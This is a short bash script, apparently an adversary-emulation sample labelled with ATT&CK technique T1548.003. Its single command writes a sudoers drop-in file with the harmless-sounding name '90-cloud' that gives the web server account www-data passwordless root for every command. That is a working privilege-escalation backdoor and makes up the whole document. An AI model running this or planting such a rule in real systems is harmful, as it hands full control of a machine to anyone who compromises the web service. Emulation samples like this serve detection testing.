#!/bin/bash
# T1548.003: A rule lets a user do everything.
mkdir -p /etc/sudoers.d; echo 'www-data ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/90-cloud; chmod 440 /etc/sudoers.d/90-cloud
